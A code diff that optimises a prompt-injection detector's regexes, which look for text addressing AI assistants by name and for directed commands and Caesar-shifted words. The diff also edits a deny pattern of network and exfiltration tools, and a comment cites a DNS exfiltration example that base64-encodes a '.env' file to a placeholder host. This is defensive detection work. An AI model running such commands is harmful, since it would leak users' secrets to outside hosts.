@@ -34,7 +34,7 @@ import codecs
 import contextlib
 import re
 
-from .firststart import StartRe
+from .firststart import StartRe, finditer_whole, whole
 from .lazyre import LazyRe, lazy
 from .near import AnyOf, chain_of
 
@@ -192,7 +192,8 @@ _PERSONA_ML_LATIN = StartRe(
 # Patterns that can only match non-ASCII text: skipped on ASCII variants.
 _NON_LATIN = (_IGNORE_ML, _REVEAL_ML, _PERSONA_ML)
 # A cheap first look for an addressee before the expensive structural pattern runs around it.
-_ADDR_HINT = lazy(
+# (firststart.whole: re skips the characters no addressee starts with, and each match keeps its end)
+_ADDR_HINT = whole(
     r"\b(?:claude|chatgpt|gpt|copilot|gemini|cursor|codex|devin|aider|windsurf|cline|jules|opencode|llms?|language\s+models?|ai|agents?|assistants?|bots?|models?)\b",
     re.I,
 )
@@ -215,7 +216,8 @@ _PRE_IMP = (
 )
 _VERB = r"([a-z][a-z-]+)"
 _SUBORD = r"(?:(?:before|after|when|once|if|while|whenever)\b[^,.;\n]{0,80},\s*)?"
-_DIRECTED = lazy(
+# (firststart.whole: re skips the characters no direction starts with, e.g. every blank line; the match keeps its end)
+_DIRECTED = whole(
     # vocative: at the start of a line or sentence, optionally after a greeting or "note to"
     # (not inside a run of bullets: the run's first position reads all of it, so starting again at each
     # of its characters would make a page of "!!!!" quadratic)
@@ -545,14 +547,21 @@ def _shifted(word: str, k: int) -> str:
     return "".join(chr((ord(c) - 97 + k) % 26 + 97) for c in word)
 
 
-# shifted word -> distance, and one alternation of those literals (linear in the text; compiled on first use)
+# shifted word -> distance, longest first (where two start at the same place, the longer is the one found)
 _CAESAR_INDEX = {_shifted(w, k): k for k in range(1, 26) for w in _CAESAR_WORDS}
-_CAESAR = lazy("|".join(sorted(_CAESAR_INDEX, key=len, reverse=True)))
+_CAESAR_ORDER = sorted(_CAESAR_INDEX, key=len, reverse=True)
 
 
 def _caesar_shift(low: str) -> int:
-    m = _CAESAR.search(low)
-    return _CAESAR_INDEX[m.group(0)] if m else 0
+    """The distance of the shifted word that starts first in *low* (0: none).  One str.find per shifted word (C speed
+    over any text), not one alternation of the hundred words tried at every position (27 ms per 100 KB of letters);
+    tests/test_caesar_scan.py checks the same answers as that alternation."""
+    best, word = len(low), ""
+    for w in _CAESAR_ORDER:
+        at = low.find(w, 0, best + len(w))
+        if 0 <= at < best:
+            best, word = at, w
+    return _CAESAR_INDEX[word] if word else 0
 
 
 def _decoded_variants(text: str) -> list[str]:
@@ -633,21 +642,22 @@ def _directed(text: str, folded: str | None = None) -> int:
         return 0
     # The structural pattern runs only in windows around a possible addressee (it is the probe's costliest).
     windows: list[list[int]] = []
-    for h in _ADDR_HINT.compiled.finditer(text):
-        lo, hi = max(0, h.start() - 80), min(len(text), h.end() + 320)
+    for h in finditer_whole(_ADDR_HINT, text):
+        lo, hi = max(0, h.start(1) - 80), min(len(text), h.end(1) + 320)
         if windows and lo <= windows[-1][1]:
             windows[-1][1] = hi
         else:
             windows.append([lo, hi])
     best = 0
     for lo, hi in windows:
-        for m in _DIRECTED.compiled.finditer(text, lo, hi):
-            verb = next((g for g in m.groups() if g), "").lower()
+        for m in finditer_whole(_DIRECTED, text, lo, hi):
+            verb = next((g for g in m.groups()[1:] if g), "").lower()
+            start, end = m.span(1)
             # the sentence the direction stands in (up to 300 characters)
-            tail = text[m.start() : m.end() + 300]
-            cut = _SENTENCE_END.search(tail[m.end() - m.start() :])
-            sentence = tail[: m.end() - m.start() + cut.start()] if cut else tail
-            negated = bool(_NEGATED_TAIL.search(text[m.start() : m.end()]))
+            tail = text[start : end + 300]
+            cut = _SENTENCE_END.search(tail[end - start :])
+            sentence = tail[: end - start + cut.start()] if cut else tail
+            negated = bool(_NEGATED_TAIL.search(text[start:end]))
             if (verb in _CONSEQUENTIAL_VERB and not negated) or _CONSEQUENTIAL_TEXT.search(sentence):
                 return 3
             best = 2
@@ -860,8 +870,10 @@ def warning(result: ProbeResult, tool_name: str) -> str:
 GUARD_RULE = "probe.outbound-after-injection"
 HIT_RULE = "probe.injection"
 GUARD_WINDOW_S = 3600.0
+# (the program's name starts the match, after the start or a separator: a match started at the separator made every
+# blank a place to try the whole list, 80 ms per 100 KB of blanks; tests/test_net_command.py keeps that pattern)
 _NET_COMMAND = StartRe(
-    r"(?:^|[\s;&|(`$'\"/])(?=[cwnsrfthxalgiImdIpe])(?:curl|wget|nc|ncat|netcat|socat|ssh|scp|sftp|rsync|ftp|tftp|telnet|http|https|xh|aria2c|lwp-request|gh|glab|twine|"
+    r"(?<![^\s;&|(`$'\"/])(?:curl|wget|nc|ncat|netcat|socat|ssh|scp|sftp|rsync|ftp|tftp|telnet|http|https|xh|aria2c|lwp-request|gh|glab|twine|"
     r"iwr|irm|Invoke-WebRequest|Invoke-RestMethod|Send-MailMessage|sendmail|mail|mutt|dig|nslookup|host|rclone|s3cmd|azcopy|"
     # round 12b: a host name looked up is a message out (`ping $(base64 .env).x.example`), a text browser fetches, a
     # database client with a host sends its queries there
